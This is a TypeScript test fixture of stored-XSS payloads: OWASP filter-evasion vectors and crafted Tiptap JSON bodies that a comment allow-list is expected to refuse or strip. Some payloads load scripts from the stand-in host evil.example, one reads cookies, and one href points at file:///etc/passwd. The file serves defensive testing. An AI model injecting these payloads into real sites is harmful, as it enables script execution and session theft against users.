// Stored-XSS payloads for tests/e2e/stored-xss.spec.ts: the OWASP XSS filter-evasion cheat sheet
// (script tags in many spellings, event handlers on every element that has them, javascript:,
// vbscript: and data: URLs hidden behind entities, whitespace and case, CSS expressions, meta
// refresh, base href, mutation XSS, template/srcdoc, Unicode look-alikes and escapes, attribute
// and template break-outs), plus Tiptap JSON bodies that try to smuggle links, attributes, marks
// and node types past the comment allow-list.
//
// Wherever a payload can run code it sets `window.__pwned` (or `parent.__pwned`), calls
// alert/confirm/prompt, or loads something from evil.example, so that a payload that ever runs is
// seen by the trap the spec installs, whatever the page it lands on.

/** The host every exfiltration payload points at; any request to it is a failure. */
export const EVIL_HOST = "evil.example";

const PWN = "window.__pwned=1";

export const XSS_VECTORS: readonly string[] = [
  // ---- <script> in many spellings -------------------------------------------------------------
  `<script>${PWN}</script>`,
  `<SCRIPT>${PWN}</SCRIPT>`,
  `<ScRiPt>${PWN}</sCrIpT>`,
  `<script>alert(1)</script>`,
  `<script>confirm(1)</script>`,
  `<script>prompt(1)</script>`,
  `<script src=//evil.example/xss.js></script>`,
  `<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>`,
  `"><script>${PWN}</script>`,
  `'><script>${PWN}</script>`,
  `</textarea><script>${PWN}</script>`,
  `</title><script>${PWN}</script>`,
  `</script><script>${PWN}</script>`,
  `<<SCRIPT>${PWN};//<</SCRIPT>`,
  `<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>`,
  `<SCRIPT/SRC="http://evil.example/xss.js"></SCRIPT>`,
  `<SCRIPT SRC=http://evil.example/xss.js?< B >`,
  `<SCRIPT SRC=//evil.example/.j>`,
  `<scr<script>ipt>${PWN}</scr</script>ipt>`,
  `<SCRIPT a=">" SRC="http://evil.example/xss.js"></SCRIPT>`,
  `<SCRIPT ="blah" SRC="http://evil.example/xss.js"></SCRIPT>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://evil.example/xss.js"></SCRIPT>`,
  `<script>eval(atob('d2luZG93Ll9fcHduZWQ9MQ=='))</script>`,
  `<script type="module">${PWN}</script>`,
  `<script>setTimeout('${PWN}')</script>`,
  `<script>window['__pw'+'ned']=1;window.__xss=1</script>`,
  "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
  "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
  "%3Cscript%3Ewindow.__pwned%3D1%3C%2Fscript%3E",
  "\uFF1Cscript\uFF1Ewindow.__pwned=1\uFF1C/script\uFF1E",
  `\u202E<script>${PWN}</script>`,
  `<script\u000Ctype="text/javascript">${PWN}</script>`,
  `<svg><script href=data:,${PWN} />`,

  // ---- <img> -----------------------------------------------------------------------------------
  `<img src=x onerror=${PWN}>`,
  `<IMG SRC=x OnErRoR=alert(1)>`,
  `<img src=x onerror="${PWN}">`,
  `<img/src/onerror=${PWN}>`,
  `<img srcset=x onerror=${PWN}>`,
  `<IMG SRC="javascript:${PWN};">`,
  `<IMG SRC=JaVaScRiPt:${PWN}>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<IMG """><SCRIPT>${PWN}</SCRIPT>">`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="${PWN}">`,
  `<IMG SRC= onmouseover="${PWN}">`,
  `<IMG onmouseover="${PWN}">`,
  `<IMG SRC=/ onerror="${PWN}"></img>`,
  "<img src=x onerror=\"&#0000119&#0000105&#0000110&#0000100&#0000111&#0000119&#0000046&#0000095&#0000095&#0000112&#0000119&#0000110&#0000101&#0000100&#0000061&#0000049\">",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<img src=x onerror="window['__pw'+'ned']=1">`,
  "<img src=x onerror=\\u0061lert(1)>",
  "\uFF1Cimg src=x onerror=window.__pwned=1\uFF1E",
  `<img src="//evil.example/pixel.png">`,

  // ---- SVG and MathML --------------------------------------------------------------------------
  `<svg onload=${PWN}>`,
  `<svg/onload=alert(1)>`,
  `<svg><script>${PWN}</script></svg>`,
  `<svg><animate onbegin=${PWN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${PWN}"><text x="20" y="20">XSS</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${PWN}></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to=alert(1)>`,
  `<math href="javascript:${PWN}">CLICK</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${PWN}">x</maction></math>`,

  // ---- Other elements with handlers or URLs ---------------------------------------------------
  `<BODY ONLOAD=${PWN}>`,
  `<body onpageshow=${PWN}>`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
  `<iframe src="javascript:${PWN}"></iframe>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.__pwned=1&gt;"></iframe>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<details open ontoggle=${PWN}>`,
  `<video><source onerror=${PWN}></video>`,
  `<video src=x onerror=${PWN}>`,
  `<audio src=x onerror=${PWN}>`,
  `<input autofocus onfocus=${PWN}>`,
  `<select autofocus onfocus=${PWN}>`,
  `<textarea autofocus onfocus=${PWN}>`,
  `<keygen autofocus onfocus=${PWN}>`,
  `<marquee onstart=${PWN}>`,
  `<div onpointerenter=${PWN}>hover me</div>`,
  `<x contenteditable onblur=${PWN}>lose focus!`,
  `<a id=x tabindex=1 onfocus=${PWN}></a>`,
  `<object data="javascript:${PWN}">`,
  `<object data=//evil.example/x.swf>`,
  `<embed src="javascript:${PWN}">`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50Ll9fcHduZWQ9MSIvPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<applet code="javascript:confirm(document.cookie);">`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TD BACKGROUND="javascript:alert('XSS')">`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<LAYER SRC="http://evil.example/scriptlet.html"></LAYER>`,
  `<portal src=javascript:${PWN}>`,
  `<isindex type=image src=1 onerror=${PWN}>`,
  `<link rel=import href="data:text/html,<script>parent.__pwned=1</script>">`,
  `<form action="javascript:${PWN}"><button>go</button></form>`,
  `<button form=test formaction="javascript:${PWN}">x</button>`,

  // ---- Links: javascript:, vbscript:, data: behind case, entities and whitespace ----------------
  `<a href="javascript:${PWN}">click</a>`,
  `<a href="JaVaScRiPt:${PWN}">click</a>`,
  `<a href="&#106;avascript:${PWN}">click</a>`,
  `<a href="java&#x09;script:${PWN}">click</a>`,
  `<a href=" &#14; javascript:${PWN}">click</a>`,
  `<a href="javascript&colon;${PWN}">click</a>`,
  `<a href="\u0001javascript:${PWN}">click</a>`,
  `<a href="vbscript:msgbox('XSS')">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">click</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">click</a>`,
  `<a href="//evil.example/">protocol-relative</a>`,
  "<A HREF=\"h\ntt\tp://evil.example/\">XSS</A>",
  `[click](javascript:${PWN})`,
  `javascript:${PWN}`,
  "javascript://%0Awindow.__pwned=1",
  `data:text/html,<script>${PWN}</script>`,
  "https://evil.example/\"><img/src/onerror=window.__pwned=1>",

  // ---- CSS ---------------------------------------------------------------------------------------
  `<STYLE>@import'http://evil.example/xss.css';</STYLE>`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>BODY{-moz-binding:url("http://evil.example/xssmoz.xml#xss")}</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<div style="background:url(//evil.example/x.png)">x</div>`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<XSS STYLE="behavior: url(xss.htc);">`,

  // ---- meta refresh, base href --------------------------------------------------------------------
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${PWN};">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<base href="//evil.example/">`,

  // ---- Mutation XSS and raw-text elements ------------------------------------------------------
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${PWN}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${PWN}>"></noembed>`,
  `<template><img src=x onerror=${PWN}></template>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${PWN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">`,
  `<svg><style><img src=x onerror=${PWN}></style></svg>`,
  `<!--<img src="--><img src=x onerror=${PWN}//">`,
  `<![CDATA[<img src=x onerror=${PWN}>]]>`,
  `<textarea><img title="</textarea><img src=x onerror=${PWN}>">`,

  // ---- Attribute and template break-outs -------------------------------------------------------
  `" onmouseover="${PWN}`,
  `' onmouseover='${PWN}`,
  `" autofocus onfocus="${PWN}" x="`,
  `{{constructor.constructor('${PWN}')()}}`,
  "${window.__pwned=1}",
  `<%= ${PWN} %>`,
  // Letters and the few punctuation marks a tag allows, still shaped like an attribute break-out.
  "x' onfocus 'alert",
  "a\" autofocus onfocus \"x",
  "javascript/alert",
];

/**
 * Text PostgreSQL cannot store: the OWASP null-byte trick, and lone UTF-16 surrogates (which UTF-8
 * cannot encode). Every field must refuse them with 400, not fail with 500 or store U+FFFD instead.
 */
export const UNSTORABLE_VECTORS: readonly string[] = [
  `<IMG SRC=java\u0000script:${PWN}>`,
  `<scr\u0000ipt>${PWN}</scr\u0000ipt>`,
  `<img src=x onerror=\uD800${PWN}>`,
  `<svg onload=${PWN}\uDC00>`,
];

// ---- Tiptap JSON bodies ---------------------------------------------------------------------------

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/**
 * `refused`: the allow-list must answer 4xx. `stripped`: the body is legitimate editor output with
 * attributes the server accepts only to drop (Tiptap's link sends class, rel and title), or a safe
 * http/https/mailto link full of markup: it may be saved, but the stored HTML must carry none of it.
 */
export type TiptapTrick = { name: string; expect: "refused" | "stripped"; body: Json | string };

const para = (...content: Json[]): Json => ({ type: "paragraph", content });
const text = (value: string, marks?: Json[]): Json => (marks ? { type: "text", text: value, marks } : { type: "text", text: value });
const doc = (...content: Json[]): Json => ({ format: "tiptap", doc: { type: "doc", content } });
const linked = (attrs: Record<string, Json>, label = "click me"): Json => doc(para(text(label, [{ type: "link", attrs }])));

const REFUSED_HREFS = [
  `javascript:${PWN}`,
  `JaVaScRiPt:${PWN}`,
  `  javascript:${PWN}`,
  `java\tscript:${PWN}`,
  `java\nscript:${PWN}`,
  `\u0001javascript:${PWN}`,
  `&#106;avascript:${PWN}`,
  `&#x6A;avascript:${PWN}`,
  `%6Aavascript:${PWN}`,
  `javascript&colon;${PWN}`,
  `jav\u200Bascript:${PWN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${PWN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `//evil.example/x`,
  `/relative/path`,
  `https:javascript:${PWN}`,
  `https://`,
  `http://evil.example/\u2028javascript:${PWN}`,
  `file:///etc/passwd`,
  `jar:https://evil.example/x.jar!/`,
  `feed:javascript:${PWN}`,
];

export const TIPTAP_TRICKS: readonly TiptapTrick[] = [
  ...REFUSED_HREFS.map((href): TiptapTrick => ({ name: `link href ${JSON.stringify(href)}`, expect: "refused", body: linked({ href }) })),
  { name: "link href as an object", expect: "refused", body: linked({ href: { toString: `javascript:${PWN}` } }) },
  { name: "link href as an array", expect: "refused", body: linked({ href: [`javascript:${PWN}`] }) },
  { name: "link with onclick", expect: "refused", body: linked({ href: "https://example.org/", onclick: PWN }) },
  { name: "link with style", expect: "refused", body: linked({ href: "https://example.org/", style: "background:url(//evil.example/x)" }) },
  { name: "link with target _self", expect: "refused", body: linked({ href: "https://example.org/", target: "_self" }) },
  { name: "link with a javascript: target", expect: "refused", body: linked({ href: "https://example.org/", target: `javascript:${PWN}` }) },
  { name: "link with xlink:href", expect: "refused", body: linked({ href: "https://example.org/", "xlink:href": `javascript:${PWN}` }) },
  { name: "link without attrs", expect: "refused", body: doc(para(text("x", [{ type: "link" }]))) },
  { name: "the same link mark twice", expect: "refused", body: doc(para(text("x", [{ type: "link", attrs: { href: "https://example.org/" } }, { type: "link", attrs: { href: `javascript:${PWN}` } }]))) },
  { name: "link class, rel and title with markup", expect: "stripped", body: linked({ href: "https://example.org/", class: `x" onmouseover="${PWN}`, rel: "opener", title: `"><img src=x onerror=${PWN}>`, target: "_blank" }) },
  { name: "https link full of markup", expect: "stripped", body: linked({ href: `https://example.org/"><img/src/onerror=${PWN}>` }, `<img src=x onerror=${PWN}>`) },
  { name: "mailto link with markup", expect: "stripped", body: linked({ href: `mailto:x@example.org?body=<script>${PWN}</script>` }) },
  { name: "https link with a quote break-out in the query", expect: "stripped", body: linked({ href: `https://example.org/?q='onmouseover='${PWN}` }) },
  { name: "unknown mark script", expect: "refused", body: doc(para(text("x", [{ type: "script", attrs: { src: "//evil.example/x.js" } }]))) },
  { name: "unknown mark textStyle with style", expect: "refused", body: doc(para(text("x", [{ type: "textStyle", attrs: { style: "background:url(javascript:alert(1))" } }]))) },
  { name: "unknown mark highlight with color", expect: "refused", body: doc(para(text("x", [{ type: "highlight", attrs: { color: `red;background:url(//evil.example/x)` } }]))) },
  { name: "bold mark with onclick", expect: "refused", body: doc(para(text("x", [{ type: "bold", attrs: { onclick: PWN } }]))) },
  { name: "code mark with class", expect: "refused", body: doc(para(text("x", [{ type: "code", attrs: { class: "x" } }]))) },
  { name: "image node with onerror", expect: "refused", body: doc({ type: "image", attrs: { src: "x", onerror: PWN } }) },
  { name: "inline image node with onerror", expect: "refused", body: doc(para({ type: "image", attrs: { src: "x", onerror: PWN } })) },
  { name: "iframe node", expect: "refused", body: doc({ type: "iframe", attrs: { src: `javascript:${PWN}` } }) },
  { name: "htmlBlock node", expect: "refused", body: doc({ type: "htmlBlock", content: [text(`<script>${PWN}</script>`)] }) },
  { name: "html node with raw html", expect: "refused", body: doc({ type: "html", html: `<img src=x onerror=${PWN}>` }) },
  { name: "codeBlock node", expect: "refused", body: doc({ type: "codeBlock", attrs: { language: `"><script>${PWN}</script>` }, content: [text("x")] }) },
  { name: "heading node", expect: "refused", body: doc({ type: "heading", attrs: { level: 1 }, content: [text("x")] }) },
  { name: "mention node", expect: "refused", body: doc(para({ type: "mention", attrs: { id: `<img src=x onerror=${PWN}>`, label: "x" } })) },
  { name: "embed node", expect: "refused", body: doc({ type: "embed", attrs: { src: "//evil.example/x.swf" } }) },
  { name: "paragraph with style", expect: "refused", body: doc({ type: "paragraph", attrs: { style: "background:url(//evil.example/x)" }, content: [text("x")] }) },
  { name: "paragraph with class", expect: "refused", body: doc({ type: "paragraph", attrs: { class: "x" }, content: [text("x")] }) },
  { name: "text node with attrs", expect: "refused", body: doc(para({ type: "text", text: "x", attrs: { onclick: PWN } })) },
  { name: "text node with an html field", expect: "refused", body: doc(para({ type: "text", text: "x", html: `<script>${PWN}</script>` })) },
  { name: "text node that is not a string", expect: "refused", body: doc(para({ type: "text", text: { toString: `<script>${PWN}</script>` } })) },
  { name: "text node directly in the doc", expect: "refused", body: doc(text(`<script>${PWN}</script>`)) },
  { name: "doc with attrs", expect: "refused", body: { format: "tiptap", doc: { type: "doc", attrs: { onload: PWN }, content: [para(text("x"))] } } },
  { name: "ordered list start that breaks out", expect: "refused", body: doc({ type: "orderedList", attrs: { start: `1" onclick="${PWN}` }, content: [{ type: "listItem", content: [para(text("x"))] }] }) },
  { name: "ordered list type that breaks out", expect: "refused", body: doc({ type: "orderedList", attrs: { type: `1" onclick="${PWN}` }, content: [{ type: "listItem", content: [para(text("x"))] }] }) },
  { name: "list item with onclick", expect: "refused", body: doc({ type: "bulletList", content: [{ type: "listItem", attrs: { onclick: PWN }, content: [para(text("x"))] }] }) },
  { name: "hardBreak with attrs", expect: "refused", body: doc(para(text("x"), { type: "hardBreak", attrs: { onclick: PWN } })) },
  { name: "body format html", expect: "refused", body: { format: "html", html: `<img src=x onerror=${PWN}>` } },
  { name: "body with both tiptap and html", expect: "refused", body: { format: "tiptap", doc: { type: "doc", content: [para(text("x"))] }, html: `<script>${PWN}</script>` } },
  { name: "text body with html", expect: "refused", body: { format: "text", text: "x", html: `<script>${PWN}</script>` } },
  { name: "doc as an HTML string", expect: "refused", body: { format: "tiptap", doc: `<p><img src=x onerror=${PWN}></p>` } },
  {
    name: "__proto__ key in the doc (raw JSON)",
    expect: "refused",
    body: `{"format":"tiptap","doc":{"type":"doc","content":[{"type":"paragraph","content":[{"type":"text","text":"x"}]}],"__proto__":{"html":"<img src=x onerror=${PWN}>"}}}`,
  },
  {
    name: "__proto__ key in a link's attrs (raw JSON)",
    expect: "refused",
    body: `{"format":"tiptap","doc":{"type":"doc","content":[{"type":"paragraph","content":[{"type":"text","text":"x","marks":[{"type":"link","attrs":{"href":"https://example.org/","__proto__":{"href":"javascript:${PWN}"}}}]}]}]}}`,
  },
  {
    name: "lists nested deeper than allowed",
    expect: "refused",
    body: doc(
      Array.from({ length: 12 }).reduce<Json>((inner) => ({ type: "bulletList", content: [{ type: "listItem", content: [inner] }] }), para(text(`<script>${PWN}</script>`))),
    ),
  },
];
